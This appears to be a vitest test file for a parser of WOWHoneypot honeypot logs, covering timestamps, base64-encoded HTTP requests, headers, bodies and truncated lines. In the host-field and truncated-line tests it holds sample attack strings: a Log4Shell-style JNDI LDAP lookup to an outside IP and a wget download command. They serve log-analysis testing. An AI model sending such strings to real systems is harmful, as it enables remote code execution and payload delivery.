import { describe, expect, test } from 'vitest';
import { read } from './detect.ts';
import { faultsOf } from './fixtures/field-check.ts';
import { stopOf, valuesOf } from './fixtures/summary.ts';
import { pairs } from './pairs.ts';

const TIME = '2026-11-24 13:26:44+0900';
const base64 = (text: string) => Buffer.from(text).toString('base64');
const MESSAGE =
  'GET / HTTP/1.1\nHost: 198.51.100.10\nUser-Agent: curl/8.5.0\nReferer: http://www.example.com/\n\n';
const FRONT = `[${TIME}] 192.0.2.11 198.51.100.10:80 "GET / HTTP/1.1" 200 False`;
const line = (message: string) => `${FRONT} ${base64(message)}`;

test('a line says all of the request', () => {
  const reading = read(line(MESSAGE));
  expect(valuesOf(reading)).toEqual({
    time: TIME,
    source: '192.0.2.11',
    host: '198.51.100.10:80',
    request: 'GET / HTTP/1.1',
    method: 'GET',
    target: '/',
    path: '/',
    version: 'HTTP/1.1',
    status: '200',
    match: 'False',
    payload: MESSAGE,
    'user-agent': 'curl/8.5.0',
    referer: 'http://www.example.com/',
  });
  expect(reading).toMatchObject({ ok: true, format: 'wowhoneypot' });
  expect(reading.instant).toEqual({ utc: Date.UTC(2026, 10, 24, 4, 26, 44), offset: 540 });
  expect(faultsOf(reading)).toEqual([]);
});

describe('the request in base64', () => {
  const headersOf = (message: string) =>
    read(line(message)).headers.map(({ name, value }) => [name.value, value.value]);

  test('headers keep their order, case and repetition', () => {
    expect(headersOf('GET / HTTP/1.1\nX-B: 1\nx-a:2\nX-B: 3\n\n')).toEqual([
      ['X-B', '1'],
      ['x-a', '2'],
      ['X-B', '3'],
    ]);
  });

  test('a header may be empty, and a line without a colon is none', () => {
    expect(headersOf('GET / HTTP/1.1\nA:\nnonsense\nB: \n: c\n\n')).toEqual([
      ['A', ''],
      ['B', ''],
      ['', 'c'],
    ]);
  });

  test('a folded header is one', () => {
    expect(headersOf('GET / HTTP/1.1\nA: 1\n  2\n\t3\nB: 4\n\n')).toEqual([
      ['A', '1\n  2\n\t3'],
      ['B', '4'],
    ]);
  });

  test('a header beyond ASCII stands as the program encoded it', () => {
    expect(headersOf('GET / HTTP/1.1\nUser-Agent: =?utf-8?b?44GC?=\n\n')).toEqual([
      ['User-Agent', '=?utf-8?b?44GC?='],
    ]);
  });

  test('of two User-Agents the first is the field', () => {
    expect(read(line('GET / HTTP/1.1\nuser-agent: a\nUser-Agent: b\n\n')).fields['user-agent']?.value).toBe(
      'a',
    );
  });

  test('a User-Agent sent empty is there, one not sent is not', () => {
    expect(read(line('GET / HTTP/1.1\nUser-Agent: \n\n')).fields['user-agent']?.value).toBe('');
    expect(read(line('GET / HTTP/1.1\n\n')).fields).not.toHaveProperty('user-agent');
  });

  test.each([
    ['GET / HTTP/1.1\n\n', undefined],
    ['GET / HTTP/1.1\nA: b\n\n', undefined],
    ['POST / HTTP/1.1\nA: b\n\na=b&c=d', 'a=b&c=d'],
    ['POST / HTTP/1.1\n\n\n', '\n'],
    ['POST / HTTP/1.1\nA: b\n\n--x\r\nC: d\r\n\r\n', '--x\r\nC: d\r\n\r\n'],
    ['POST / HTTP/1.1\nA: b\n\nあ😀', 'あ😀'],
  ])('the body of %j is %j', (message, body) => {
    const reading = read(line(message));
    expect(reading.fields.body?.value).toBe(body);
    expect(reading.ok).toBe(true);
    expect(faultsOf(reading)).toEqual([]);
  });

  test('fields in it point to the base64 that carries them', () => {
    const reading = read(line(MESSAGE));
    const agent = reading.fields['user-agent'];
    expect(agent?.encodings).toEqual(['base64']);
    expect(agent?.offsets).toHaveLength('curl/8.5.0'.length + 1);
    // "curl/8.5.0" are the bytes 47 to 56: letters 62 (its bits 4 and 5) to 75.
    const start = FRONT.length + 1;
    expect(agent?.span).toEqual({ start: start + 62, end: start + 76 });
  });

  test('a letter that carries the last bits of a value and the first of the line end belongs to both', () => {
    // "198.51.100.10" are the bytes 21 to 33; the last bits of 33 are in letter 45.
    const start = FRONT.length + 1;
    expect(read(line(MESSAGE)).headers[0]?.value.span).toEqual({ start: start + 28, end: start + 46 });
  });

  test('a form body can be cut into pairs that still lead to the base64', () => {
    const reading = read(line('POST / HTTP/1.1\n\nabc=de&f=gh&ij=%41%42&k'));
    const query = reading.fields.body === undefined ? [] : pairs(reading.fields.body);
    const texts = query.map(({ name, value }) => [name.value, value?.value]);
    expect(texts).toEqual([
      ['abc', 'de'],
      ['f', 'gh'],
      ['ij', '%41%42'],
      ['k', undefined],
    ]);
    const fields = query.flatMap(({ name, value }) => (value === undefined ? [name] : [name, value]));
    expect(fields.every(({ encodings }) => encodings.join() === 'base64')).toBe(true);
    expect(faultsOf({ ...reading, query })).toEqual([]);
  });
});

describe('the host', () => {
  const hostOf = (host: string, message: string) =>
    read(`[${TIME}] 192.0.2.11 ${host} "GET / HTTP/1.1" 200 False ${base64(message)}`).fields.host;

  test.each([
    ['www.example.com:80', 'www.example.com:80'],
    ['198.51.100.10:7001', '198.51.100.10:7001'],
    ['[2001:db8::80]', '[2001:db8::80]'],
    ['${jndi:ldap://203.0.113.9/a}', '${jndi:ldap://203.0.113.9/a}'],
  ])('%s stands as the program wrote it', (host, value) => {
    expect(hostOf(host, `GET / HTTP/1.1\nHost: ${host}\n\n`)?.value).toBe(value);
  });

  test('blank:80 says that there was none', () => {
    expect(hostOf('blank:80', 'GET / HTTP/1.0\n\n')?.value).toBeNull();
  });

  test('unless somebody sent that word', () => {
    expect(hostOf('blank:80', 'GET / HTTP/1.0\nHost: blank\n\n')?.value).toBe('blank:80');
  });
});

describe('variants', () => {
  test.each([
    [
      'a masked source',
      `[${TIME}] 0.0.0.0 blank:80 "GET / HTTP/1.0" 200 False ${base64('GET / HTTP/1.0\n\n')}`,
    ],
    [
      'a tab',
      `[${TIME}]\t192.0.2.11\tblank:80\t"GET / HTTP/1.0"\t200\t1006\t${base64('GET / HTTP/1.0\n\n')}`,
    ],
    ['a comma', `[${TIME}],192.0.2.11,blank:80,"GET / HTTP/1.0",200,1006,${base64('GET / HTTP/1.0\n\n')}`],
    [
      'a bar',
      `[${TIME}] | 192.0.2.11 | blank:80 | "GET / HTTP/1.0" | 200 | 1006 | ${base64('GET / HTTP/1.0\n\n')}`,
    ],
  ])('with %s', (_, raw) => {
    const reading = read(raw);
    expect(reading).toMatchObject({ ok: true, format: 'wowhoneypot' });
    expect(valuesOf(reading)).toMatchObject({ path: '/', status: '200', host: null });
    expect(faultsOf(reading)).toEqual([]);
  });

  test('with fields behind', () => {
    expect(read(`${line(MESSAGE)} JP sensor-1`).fields.extra?.value).toBe('JP sensor-1');
  });

  test('percent-encoding that the program wrote stays: it cannot be told from the visitor’s', () => {
    const reading = read(
      `[${TIME}] 192.0.2.11 blank:80 "GET /a%20b?c=%22 HTTP/1.0" 200 False ${base64('GET /a%20b?c=%22 HTTP/1.0\n\n')}`,
    );
    expect(valuesOf(reading)).toMatchObject({ path: '/a%20b', query: 'c=%22' });
  });
});

describe('a line that stops making sense keeps what was read and says what is missing', () => {
  const cut = base64(MESSAGE).slice(0, 61);

  test.each([
    ['[2026-', 'time at |'],
    ['[2026-11-24 13:26', 'time at |'],
    ['[2026-11-24x', 'time at |x'],
    ['[2026-13-24 13:26:44+0900] 192.0.2.11', 'time at |2026-13-24 13:26:44+0900] 192.0.2.11'],
    [`[${TIME}]`, 'source-address at |'],
    [`[${TIME}][ERROR]Access from`, 'source-address at |[ERROR]Access from'],
    [`[${TIME}] 192.0.2.11`, 'host at |'],
    [`[${TIME}],192.0.2.11,`, 'host at |'],
    [`[${TIME}]${','.repeat(16)}blank:80`, `source-address at |,,,,,,,,blank:80`],
    [`[${TIME}] 192.0.2.11 198.51`, 'host at |'],
    [`[${TIME}] 192.0.2.93 wget http://203.0.113.9/t`, 'host at |wget http://203.0.113.9/t'],
    [`[${TIME}] 192.0.2.11 blank:80`, 'request at |'],
    [`[${TIME}] 192.0.2.11 blank:80 GET /`, 'request at |GET /'],
    [`[${TIME}] 192.0.2.11 blank:80 "`, 'closing-quote at |'],
    [`[${TIME}] 192.0.2.11 blank:80 "GET /a`, 'closing-quote at |'],
    [`[${TIME}] 192.0.2.11 blank:80 "GET /a"`, 'status at |'],
    [`[${TIME}] 192.0.2.11 blank:80 "GET /a"200`, 'status at |200'],
    [`[${TIME}] 192.0.2.11 blank:80 "GET /a" 20`, 'status at |'],
    [`[${TIME}] 192.0.2.11 blank:80 "GET /a" ok False`, 'status at |ok False'],
    [`[${TIME}] 192.0.2.11 blank:80 "GET /a" 200`, 'match at |'],
    [`[${TIME}] 192.0.2.11 blank:80 "GET /a" 200 Fal`, 'match at |'],
    [`[${TIME}] 192.0.2.11 blank:80 "GET /a" 200 True R0VU`, 'match at |True R0VU'],
    [FRONT, 'base64 at |'],
    [`${FRONT} ${cut}`, 'base64 at |'],
    [`${FRONT} ${base64('GET / HTTP/1.1\nHost: 198')}`, 'base64 at |'],
    [`${FRONT} ${cut}*AAA`, 'base64 at |*AAA'],
    [`${FRONT} ${base64('GET / HTTP/1.1\n')}/9j/`, 'base64 at |/9j/'],
  ])('%s', (raw, stop) => {
    const reading = read(raw);
    expect(stopOf(reading)).toBe(stop);
    expect(reading.format).toBe('wowhoneypot');
    expect(faultsOf(reading)).toEqual([]);
  });

  test.each([
    [61, 45, []],
    [63, 47, []],
    [66, 49, [['User-Agent', 'cu']]],
  ])('of %i letters of base64 all that can be read is kept', (letters, bytes, agent) => {
    const reading = read(`${FRONT} ${base64(MESSAGE).slice(0, letters)}`);
    expect(reading.fields.payload?.value).toBe(MESSAGE.slice(0, bytes));
    const headers = reading.headers.map(({ name, value }) => [name.value, value.value]);
    expect(headers).toEqual([['Host', '198.51.100.10'], ...agent]);
  });
});
